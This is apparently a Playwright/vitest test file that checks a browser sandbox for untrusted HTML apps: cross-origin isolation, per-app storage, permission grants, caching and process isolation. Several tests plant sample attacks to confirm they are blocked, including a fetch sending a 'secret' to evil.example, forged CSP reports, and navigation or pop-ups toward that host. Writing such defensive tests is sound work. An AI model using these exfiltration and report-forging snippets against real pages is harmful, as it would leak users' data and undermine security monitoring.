import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { SandboxReport } from '../../packages/casement/src/sandbox/index.ts'
import { freePort } from '../lab/free-port.mjs'
import { Stage, viewReporting, type Mounted } from './stage.ts'

const reports: SandboxReport[] = []
let stage: Stage
beforeAll(async () => {
  stage = await Stage.open({ onreport: (report) => reports.push(report) })
})
afterAll(() => stage.close())

/** The results that a View detected and reported. Its page can do no more here. */
const found = async (expression: string, more: object = {}): Promise<Record<string, unknown>> => {
  const view = await stage.mount({ html: viewReporting(expression), ...more })
  const { value, error } = await view.wait('test/result')
  await view.page.context().close()
  if (error) throw new Error(error as string)
  return value as Record<string, unknown>
}

const markedUp = (doctype: string): string =>
  `\uFEFF${doctype}<!-- c --><html lang="de" class="dark"><head data-x="1"><meta name="a"><title>T</title></head><body id="b">${viewReporting(
    `({ mode: document.compatMode, lang: document.documentElement.lang, class: document.documentElement.className,
        first: document.head.firstElementChild.localName, scripts: document.scripts.length, title: document.title, body: document.body.id })`,
  ).replace(/^.*?<body>|<\/body>.*$/gs, '')}</body></html>`

describe('a served View in Chromium', () => {
  test('R-079 R-080 R-082 R-083 R-097 lives in two sandboxed frames of three origins', async () => {
    const view = await stage.mount({ html: viewReporting('origin') })
    const { value } = await view.wait('test/result')
    const expected = [stage.served.hostOrigin, `http://sandbox.casement.localhost:${stage.served.port}`, value]
    await expect.poll(() => view.page.frames().map((frame) => new URL(frame.url()).origin)).toEqual(expected)
    expect(new Set(expected).size).toBe(3)
    expect(await view.proxy().evaluate(`document.querySelector('iframe').getAttribute('sandbox')`)).toBe(
      'allow-scripts allow-same-origin',
    )
    await view.page.context().close()
  })

  test('is the first page in its frame: no empty one is opened before it', async () => {
    const page = await stage.hostPage()
    const opened: string[] = []
    page.on('framenavigated', (frame) => {
      if (frame.parentFrame()?.parentFrame()) opened.push(new URL(frame.url()).pathname.split('/')[1] ?? '')
    })
    const view = await stage.mount({ html: viewReporting('1') }, {}, page)
    await view.wait('test/result')
    await expect.poll(() => opened).toEqual(['view'])
    await page.context().close()
  })

  test('R-084 R-086 the proxy announces itself once, with empty parameters, to the host origin', async () => {
    const view = await stage.mount({ html: viewReporting('1') })
    await view.wait('test/result')
    const ready = (await view.heard()).filter(({ message }) => message.method === 'ui/notifications/sandbox-proxy-ready')
    expect(ready).toEqual([
      { by: 'window', message: { jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, ports: 0 },
    ])
    await view.page.context().close()
  })

  test('cannot reach its proxy, its host, or their storage', async () => {
    expect(
      await found(`({
        proxy: attempt(() => parent.document.title), host: attempt(() => top.document.title), frame: attempt(() => frameElement),
        proxyPlace: attempt(() => parent.location.href), config: attempt(() => parent.frames[0].document === document),
        cluster: originAgentCluster,
      })`),
    ).toEqual({
      proxy: 'threw SecurityError',
      host: 'threw SecurityError',
      frame: 'null',
      proxyPlace: 'threw SecurityError',
      config: 'true',
      cluster: true,
    })
  })

  test('R-098 has a real origin and storage of its own, which it keeps and no other app sees', async () => {
    const page = await stage.hostPage()
    const read = viewReporting(
      `({ mine: localStorage.getItem('who'), cookie: document.cookie, keys: Object.keys(localStorage).length })`,
    )
    const write = viewReporting(`(localStorage.setItem('who', 'first'), document.cookie = 'who=first', 'kept')`)
    const run = async (app: string, html: string): Promise<unknown> => {
      await page.goto(stage.served.hostOrigin)
      return (await (await stage.mount({ app, html }, {}, page)).wait('test/result'))['value']
    }
    expect(await run('first', write)).toBe('kept')
    expect(await run('first', read)).toEqual({ mine: 'first', cookie: 'who=first', keys: 1 })
    expect(await run('second', read)).toEqual({ mine: null, cookie: '', keys: 0 })
    await page.context().close()
  })

  test('cannot send anything to undeclared places, and the browser itself reports the attempt (R-048)', async () => {
    reports.length = 0
    const page = await stage.hostPage()
    const ticket = await stage.ticket({
      html: viewReporting(`fetch('https://evil.example/?secret').catch(String)`),
      app: 'exfiltrator',
    })
    await page.evaluate(`
      window.streamed = []
      new EventSource(${JSON.stringify(ticket.reportsUrl)}).onmessage = ({ data }) => streamed.push(JSON.parse(data))`)
    const params = { html: '', url: ticket.viewUrl, sandbox: ticket.sandbox, allow: '' }
    const view = await stage.show(ticket.proxyUrl, { params }, page)
    expect(await view.wait('test/result')).toEqual({ value: 'TypeError: Failed to fetch' })
    const told = await view.wait('dev.casement/sandbox/view-report')
    expect(told).toMatchObject({ kind: 'csp', directive: 'connect-src', blocked: 'https://evil.example/?secret' })
    expect(JSON.stringify(told)).not.toContain(ticket.viewUrl)
    await page.waitForFunction('streamed.length > 0')
    const streamed = await page.evaluate<SandboxReport[]>('streamed')
    const expected = {
      document: 'view',
      directive: 'connect-src',
      blocked: 'https://evil.example/?secret',
      view: ticket.viewOrigin,
    }
    expect(streamed[0]).toMatchObject(expected)
    expect(reports[0]).toMatchObject(expected)
    await page.context().close()
  })

  test('cannot forge such a report, although it can find the address', async () => {
    reports.length = 0
    const html = viewReporting(
      `await new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', async ({ originalPolicy }) => {
          const address = /report-uri (\\S+)/.exec(originalPolicy)[1]
          const body = JSON.stringify({ 'csp-report': { 'effective-directive': 'forged', 'blocked-uri': 'x' } })
          const blob = new Blob([body], { type: 'application/csp-report' })
          resolve([
            await fetch(address, { method: 'POST', body: blob }).then((r) => r.status, String),
            await fetch(address, { method: 'POST', body: blob, mode: 'no-cors' }).then((r) => r.status, String),
            navigator.sendBeacon(address, blob),
          ])
        }, { once: true })
        fetch('https://evil.example/')
      })`,
    )
    const view = await stage.mount({ html, csp: {}, app: 'forger' })
    expect(await view.wait('test/result')).toEqual({ value: ['TypeError: Failed to fetch', 'TypeError: Failed to fetch', true] })
    // Not closed before: the browser drops what it has not sent yet.
    await expect.poll(() => reports.length).toBeGreaterThan(2)
    expect(reports.map(({ directive }) => directive)).not.toContain('forged')
    expect(reports.every(({ directive }) => directive === 'connect-src')).toBe(true)
    await view.page.context().close()
  })

  test('nor could it without its policy: what a script posts there is not taken', async () => {
    const page = await stage.hostPage()
    const ticket = await stage.ticket({ html: 'x', app: 'forged from outside' })
    const document = await stage.handler.fetch(new Request(ticket.viewUrl))
    const [, address] = /report-uri (\S+)/.exec(document.headers.get('content-security-policy') ?? '') ?? []
    const posted = await page.evaluate(`(async () => {
      const body = JSON.stringify({ 'csp-report': { 'effective-directive': 'forged' } })
      const blob = new Blob([body], { type: 'application/csp-report' })
      const headers = { 'Content-Type': 'application/csp-report' }
      const post = (init) => fetch('${address}', { method: 'POST', ...init }).then(({ type }) => type, String)
      return [await post({ body: blob, mode: 'no-cors' }), await post({ body, headers, mode: 'no-cors' }), await post({ body, headers })]
    })()`)
    // The first two arrive, without the content type that only the browser can give them; the third is not let through. Of no
    // answer does the page see anything.
    expect(posted).toEqual(Array.from({ length: 3 }, () => 'TypeError: Failed to fetch'))
    expect(reports.filter(({ view }) => view === ticket.viewOrigin)).toEqual([])
    await page.context().close()
  })

  test('cannot navigate away, and the attempt shows as the proxy stopping it', async () => {
    reports.length = 0
    const page = await stage.hostPage()
    const asked: string[] = []
    await page.context().route('https://evil.example/**', (route) => {
      asked.push(route.request().url())
      return route.abort()
    })
    const html = viewReporting(`(setTimeout(() => { location.href = 'https://evil.example/?secret' }), 'trying')`)
    const view = await stage.mount({ html, app: 'leaver' }, {}, page)
    await view.wait('test/result')
    await expect.poll(() => reports.find(({ document }) => document === 'proxy')).toMatchObject({ directive: 'frame-src' })
    expect(asked).toEqual([])
    await page.context().close()
  })

  test('cannot open windows, dialogs, downloads or the top, and cannot read its own headers', async () => {
    expect(
      await found(
        `({
          popup: attempt(() => window.open('https://evil.example/')), confirm: attempt(() => confirm('?')),
          top: attempt(() => { top.location.href = 'https://evil.example/' }),
          self: await fetch(location.href).then((r) => r.status, String),
          worker: await navigator.serviceWorker.register(location.href).then(() => 'registered', (e) => e.name),
        })`,
        { csp: {} },
      ),
    ).toEqual({ popup: 'null', confirm: 'false', top: 'threw SecurityError', self: 403, worker: 'SecurityError' })
  })

  test('gets the permissions it was granted and no others (R-072 to R-078)', async () => {
    const ask = `['camera', 'microphone', 'geolocation', 'clipboard-write', 'usb', 'fullscreen'].filter((name) => document.featurePolicy.allowsFeature(name))`
    expect(await found(ask, { permissions: { camera: {}, clipboardWrite: {} } })).toEqual(['camera', 'clipboard-write'])
    expect(await found(ask)).toEqual([])
  })

  test('is taken from the browser cache the second time', async () => {
    const page = await stage.hostPage()
    // Only what has been read to its end is kept.
    const html = viewReporting(`new Promise((resolve) => {
      addEventListener('load', () => resolve(performance.getEntriesByType('navigation')[0].transferSize))
    })`)
    const size = async (): Promise<unknown> => {
      await page.goto(stage.served.hostOrigin)
      return (await (await stage.mount({ html, app: 'cached' }, {}, page)).wait('test/result'))['value']
    }
    expect(await size()).toBeGreaterThan(0)
    expect(await size()).toBe(0)
    await page.context().close()
  })

  test('keeps its own document as it was: mode, attributes, first script, language', async () => {
    const expected = { lang: 'de', class: 'dark', first: 'meta', scripts: 1, title: 'T', body: 'b' }
    const [standard, quirks] = await Promise.all(
      ['<!doctype html>', ''].map(async (doctype) => {
        const view = await stage.mount({ html: markedUp(doctype), app: `doctype ${doctype}` })
        const { value } = await view.wait('test/result')
        await view.page.context().close()
        return value
      }),
    )
    expect(standard).toEqual({ mode: 'CSS1Compat', ...expected })
    expect(quirks).toEqual({ mode: 'BackCompat', ...expected })
  })
})

describe('a served View on another site than its host in Chromium', () => {
  test('shares a process with nobody: its endless loop holds up neither host, proxy nor another app', async () => {
    const port = await freePort()
    const hostOrigin = `http://chat.localhost:${port}`
    const apart = await Stage.open({ hostOrigins: [hostOrigin] }, port)
    try {
      const page = await (await apart.browser.newContext()).newPage()
      await page.goto(`${hostOrigin}/shared`)
      let isLooping = false
      page.on('console', (message) => (isLooping ||= message.text() === 'looping'))
      const show = async (app: string, html: string): Promise<Mounted> => {
        const ticket = await apart.handler.mint({ app, html, hostOrigin })
        return apart.show(ticket.proxyUrl, { params: { url: ticket.viewUrl, sandbox: ticket.sandbox, allow: '' } }, page)
      }
      const other = await show('other', viewReporting('1'))
      await other.wait('test/result')
      const beside = other.view()
      const looping = await show('looping', `<!doctype html><script>console.info('looping'); for (;;) {}</script>`)
      await expect.poll(() => isLooping).toBe(true)
      expect(await Promise.all([page.mainFrame(), looping.proxy(), beside].map((frame) => frame.evaluate('1 + 1')))).toEqual([
        2, 2, 2,
      ])
    } finally {
      await apart.close()
    }
  })

  test('R-101 has storage in memory where the browser blocks that of third parties, and the ticket says so', async () => {
    const port = await freePort()
    const hostOrigin = `http://chat.localhost:${port}`
    const apart = await Stage.open({ hostOrigins: [hostOrigin] }, port)
    try {
      const page = await (await apart.browser.newContext()).newPage()
      await page.goto(hostOrigin)
      const html = viewReporting(`(() => {
        const before = localStorage.length
        localStorage.setItem('a', 'b')
        return [before, localStorage.a, sessionStorage.length]
      })()`)
      const userAgent = await page.evaluate<string>('navigator.userAgent')
      const ticket = await apart.handler.mint({ app: 'a', html, hostOrigin, userAgent })
      const params = { html: '', url: ticket.viewUrl, sandbox: ticket.sandbox, allow: '' }
      expect(await (await apart.show(ticket.proxyUrl, { params }, page)).wait('test/result')).toEqual({ value: [0, 'b', 0] })
      // The next one starts empty again: it was no real storage.
      await page.goto(hostOrigin)
      expect(await (await apart.show(ticket.proxyUrl, { params }, page)).wait('test/result')).toEqual({ value: [0, 'b', 0] })
      expect(ticket.capabilities).toMatchObject({ isolatedProcess: 'yes', storage: 'memory' })
    } finally {
      await apart.close()
    }
  })
})
